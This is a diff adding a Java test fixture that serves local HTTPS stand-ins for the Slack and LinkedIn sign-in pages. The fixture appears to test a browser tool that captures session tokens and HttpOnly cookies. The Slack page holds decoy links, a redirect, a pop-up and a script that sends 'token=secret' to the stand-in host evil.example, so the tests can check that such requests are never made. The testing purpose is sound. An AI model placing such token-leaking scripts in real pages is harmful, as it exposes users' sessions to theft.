@@ -1,0 +1,288 @@
+package dev.latchkey.browser.chromium;
+
+import com.sun.net.httpserver.HttpExchange;
+import com.sun.net.httpserver.HttpsConfigurator;
+import com.sun.net.httpserver.HttpsServer;
+import dev.latchkey.browser.QaSwitches;
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.InetSocketAddress;
+import java.net.URLDecoder;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.security.KeyStore;
+import java.security.MessageDigest;
+import java.security.cert.Certificate;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.Base64;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.concurrent.Executors;
+import javax.net.ssl.KeyManagerFactory;
+import javax.net.ssl.SSLContext;
+
+/**
+ * Small HTTPS stand-ins for the services, on 127.0.0.1 with a self-signed certificate made by
+ * {@code keytool}: Chromium reaches them under the real host names through the QA switches
+ * ({@code --host-resolver-rules} maps the hosts here, {@code --ignore-certificate-errors-spki-list}
+ * trusts this certificate), so the built-in provider definitions are tested unchanged.
+ *
+ * <ul>
+ *   <li>{@code slack.com/signin}: a sign-in form (password {@value #PASSWORD}) and links, a redirect, a
+ *       script and a pop-up that all try to leave for {@code evil.example}; a good sign-in goes to
+ *       {@code app.slack.com/client/T222BBB}, whose page writes {@code localConfig_v2} with two
+ *       teams after a moment and gets its HttpOnly {@code d} cookie on {@code .slack.com} later still
+ *       (plus decoys: {@code d} on {@code app.slack.com} only, and {@code d-s});</li>
+ *   <li>{@code www.linkedin.com/login}: a sign-in form that sets localStorage and the HttpOnly
+ *       {@code li_at} cookie and redirects to the {@code /feed/} dashboard; a wrong password shows an error;</li>
+ *   <li>{@code evil.example}: must never be asked for anything ({@link #requestsTo}).</li>
+ * </ul>
+ */
+public final class ServiceSites implements AutoCloseable {
+
+    public static final String PASSWORD = "correct horse";
+    static final String SLACK_HOSTS = "slack.com app.slack.com";
+    /** How long the {@code d} cookie lasts (Chromium caps any cookie at 400 days). */
+    static final Duration D_LIFETIME = Duration.ofDays(30);
+
+    private final HttpsServer server;
+    private final String spki;
+    private final boolean late;
+    private volatile Instant dashboardServedAt;
+    private final List<String> requests = new CopyOnWriteArrayList<>();
+
+    private ServiceSites(HttpsServer server, String spki, boolean late) {
+        this.server = server;
+        this.spki = spki;
+        this.late = late;
+    }
+
+    /** The sites as described: Slack's values appear a moment after its dashboard. */
+    public static ServiceSites start(Path dir) throws Exception {
+        return start(dir, true);
+    }
+
+    /**
+     * @param late true for Slack's values to appear a moment after the dashboard (as the real
+     *             one does); false to have them with the dashboard, for timing what Latchkey does after it
+     */
+    static ServiceSites start(Path dir, boolean late) throws Exception {
+        Path keystore = dir.resolve("sites.p12");
+        Process keytool = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "keytool").toString(),
+                "-genkeypair", "-alias", "sites", "-keyalg", "EC", "-groupname", "secp256r1", "-validity", "2",
+                "-dname", "CN=latchkey test sites", "-ext", "san=dns:slack.com,dns:app.slack.com,dns:www.linkedin.com",
+                "-keystore", keystore.toString(), "-storetype", "PKCS12", "-storepass", "changeit")
+                .redirectErrorStream(true).start();
+        String output = new String(keytool.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        if (keytool.waitFor() != 0) {
+            throw new IllegalStateException("keytool could not make the test certificate: " + output);
+        }
+        KeyStore store = KeyStore.getInstance("PKCS12");
+        try (InputStream in = Files.newInputStream(keystore)) {
+            store.load(in, "changeit".toCharArray());
+        }
+        Certificate certificate = store.getCertificate("sites");
+        String spki = Base64.getEncoder().encodeToString(
+                MessageDigest.getInstance("SHA-256").digest(certificate.getPublicKey().getEncoded()));
+        KeyManagerFactory keys = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
+        keys.init(store, "changeit".toCharArray());
+        SSLContext tls = SSLContext.getInstance("TLS");
+        tls.init(keys.getKeyManagers(), null, null);
+        HttpsServer server = HttpsServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
+        server.setHttpsConfigurator(new HttpsConfigurator(tls));
+        server.setExecutor(Executors.newFixedThreadPool(4));
+        ServiceSites sites = new ServiceSites(server, spki, late);
+        server.createContext("/", sites::handle);
+        server.start();
+        return sites;
+    }
+
+    /** Chromium's switches that send the services' hosts here and trust this site's certificate. */
+    public QaSwitches switches() {
+        int port = server.getAddress().getPort();
+        String rules = String.join(",", List.of("slack.com", "*.slack.com", "www.linkedin.com", "evil.example")
+                .stream().map(host -> "MAP " + host + " 127.0.0.1:" + port).toList());
+        return new QaSwitches(rules, spki);
+    }
+
+    /** Every request this site got for {@code host}, as {@code "METHOD /path"}. */
+    public List<String> requestsTo(String host) {
+        String prefix = host + " ";
+        return requests.stream().filter(r -> r.startsWith(prefix)).map(r -> r.substring(prefix.length())).toList();
+    }
+
+    private void handle(HttpExchange exchange) throws IOException {
+        String host = exchange.getRequestHeaders().getFirst("Host").replaceFirst(":\\d+$", "");
+        String method = exchange.getRequestMethod();
+        String path = exchange.getRequestURI().getPath();
+        requests.add(host + " " + method + " " + path);
+        try (exchange) {
+            switch (host + " " + method + " " + path.replaceFirst("^/client/T[A-Z0-9]+$", "/client/T")) {
+                case "slack.com GET /signin" -> {
+                    if (cookie(exchange, "account").isEmpty()) {
+                        page(exchange, 200, slackSignIn(""));
+                    } else {
+                        redirect(exchange, "https://app.slack.com/client/T222BBB"); // signed in already
+                    }
+                }
+                case "slack.com POST /signin" -> slackSignedIn(exchange, form(exchange));
+                case "slack.com GET /help" -> page(exchange, 200, "<h1 id=help>Slack help</h1>");
+                case "slack.com GET /leave" -> redirect(exchange, "https://evil.example/redirect");
+                case "app.slack.com GET /client/T" -> {
+                    if (!late) {
+                        dCookies(exchange);
+                    }
+                    dashboardServedAt = Instant.now();
+                    page(exchange, 200, late ? SLACK_CLIENT : SLACK_CLIENT_AT_ONCE);
+                }
+                case "app.slack.com GET /late-cookie" -> {
+                    dCookies(exchange);
+                    exchange.sendResponseHeaders(204, -1);
+                }
+                case "www.linkedin.com GET /login" -> page(exchange, 200, linkedInSignIn(""));
+                case "www.linkedin.com POST /login" -> linkedInSignedIn(exchange, form(exchange));
+                case "www.linkedin.com GET /feed/" -> page(exchange, 200, "<h1 id=feed>Your feed</h1>");
+                default -> page(exchange, 404, "<h1>nothing here: " + host + path + "</h1>");
+            }
+        }
+    }
+
+    /** When the Slack dashboard was last sent (its first byte), or null. */
+    Instant dashboardServedAt() {
+        return dashboardServedAt;
+    }
+
+    private static void dCookies(HttpExchange exchange) {
+        exchange.getResponseHeaders().add("Set-Cookie", "d=xoxd-" + cookieSecret(exchange)
+                + "; Domain=slack.com; Path=/; Secure; HttpOnly; SameSite=Lax; Max-Age=" + D_LIFETIME.toSeconds());
+        exchange.getResponseHeaders().add("Set-Cookie", "d=xoxd-decoy-host-only; Path=/; Secure; HttpOnly");
+        exchange.getResponseHeaders().add("Set-Cookie", "d-s=1700000000; Domain=slack.com; Path=/; Secure");
+    }
+
+    private static String slackSignIn(String error) {
+        return """
+                <h1>Sign in to Slack</h1>
+                <p id=error>%s</p>
+                <form method=post action=/signin>
+                  <input id=email name=email> <input id=password name=password type=password>
+                  <button id=submit>Sign in</button>
+                </form>
+                <a id=evil-link href="https://evil.example/link">a link away</a>
+                <a id=redirect-link href="/leave">a redirect away</a>
+                <button id=script-button onclick="location.href='https://evil.example/script?token=secret'">a script away</button>
+                <button id=popup-button onclick="window.open('https://evil.example/popup')">a pop-up</button>
+                <a id=blank-link href="https://slack.com/help" target=_blank>help in a new window</a>
+                """.formatted(error);
+    }
+
+    private static void slackSignedIn(HttpExchange exchange, Map<String, String> form) throws IOException {
+        if (!PASSWORD.equals(form.get("password"))) {
+            page(exchange, 200, slackSignIn("Wrong password"));
+            return;
+        }
+        // The account's name travels in a plain cookie so that the late d cookie can be told apart per account.
+        exchange.getResponseHeaders().add("Set-Cookie", "account=" + form.get("email").replaceAll("[^a-z0-9]", "")
+                + "; Domain=slack.com; Path=/; Secure; Max-Age=" + D_LIFETIME.toSeconds());
+        redirect(exchange, "https://app.slack.com/client/T222BBB");
+    }
+
+    private static final String SLACK_CLIENT = """
+            <h1 id=client>Slack</h1>
+            <script>
+              setTimeout(() => localStorage.setItem('localConfig_v2', JSON.stringify({teams: {
+                T111AAA: {name: 'first', token: 'xoxc-111-first-team'},
+                T222BBB: {name: 'second', token: 'xoxc-222-second-team'}}})), 300);
+              setTimeout(() => fetch('/late-cookie', {credentials: 'include'}), 700);
+            </script>
+            """;
+
+    private static final String SLACK_CLIENT_AT_ONCE = """
+            <h1 id=client>Slack</h1>
+            <script>
+              localStorage.setItem('localConfig_v2', JSON.stringify({teams: {
+                T111AAA: {name: 'first', token: 'xoxc-111-first-team'},
+                T222BBB: {name: 'second', token: 'xoxc-222-second-team'}}}));
+            </script>
+            """;
+
+    private static String cookieSecret(HttpExchange exchange) {
+        return cookie(exchange, "account") + "%2Fsecret%3D";
+    }
+
+    /** The value of the request's cookie {@code name}, or empty text. */
+    private static String cookie(HttpExchange exchange, String name) {
+        String cookies = exchange.getRequestHeaders().getFirst("Cookie");
+        if (cookies == null) {
+            return "";
+        }
+        for (String pair : cookies.split(";\\s*")) {
+            if (pair.startsWith(name + "=")) {
+                return pair.substring(name.length() + 1);
+            }
+        }
+        return "";
+    }
+
+    private static String linkedInSignIn(String error) {
+        return """
+                <h1>Sign in to LinkedIn</h1>
+                <p id=error>%s</p>
+                <form method=post action=/login>
+                  <input id=username name=username> <input id=password name=password type=password>
+                  <button id=submit>Sign in</button>
+                </form>
+                """.formatted(error);
+    }
+
+    private static void linkedInSignedIn(HttpExchange exchange, Map<String, String> form) throws IOException {
+        if (!PASSWORD.equals(form.get("password"))) {
+            page(exchange, 200, linkedInSignIn("Wrong email or password"));
+            return;
+        }
+        exchange.getResponseHeaders().add("Set-Cookie",
+                "li_at=AQEDAR-session-of-" + form.get("username").replaceAll("[^a-z0-9]", "")
+                        + "; Domain=.www.linkedin.com; Path=/; Secure; HttpOnly; SameSite=None");
+        page(exchange, 200, """
+                <script>
+                  localStorage.setItem('voyager-session', 'signed-in');
+                  location.replace('/feed/');
+                </script>
+                """);
+    }
+
+    private static Map<String, String> form(HttpExchange exchange) throws IOException {
+        String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
+        Map<String, String> form = new HashMap<>();
+        for (String pair : body.split("&")) {
+            int eq = pair.indexOf('=');
+            if (eq > 0) {
+                form.put(URLDecoder.decode(pair.substring(0, eq), StandardCharsets.UTF_8),
+                        URLDecoder.decode(pair.substring(eq + 1), StandardCharsets.UTF_8));
+            }
+        }
+        return form;
+    }
+
+    private static void page(HttpExchange exchange, int status, String body) throws IOException {
+        byte[] bytes = ("<!doctype html><html><head><meta charset=utf-8><title>test site</title></head><body>"
+                + body + "</body></html>").getBytes(StandardCharsets.UTF_8);
+        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
+        exchange.sendResponseHeaders(status, bytes.length);
+        exchange.getResponseBody().write(bytes);
+    }
+
+    private static void redirect(HttpExchange exchange, String location) throws IOException {
+        exchange.getResponseHeaders().set("Location", location);
+        exchange.sendResponseHeaders(302, -1);
+    }
+
+    @Override
+    public void close() {
+        server.stop(0);
+        ((java.util.concurrent.ExecutorService) server.getExecutor()).shutdownNow();
+    }
+}
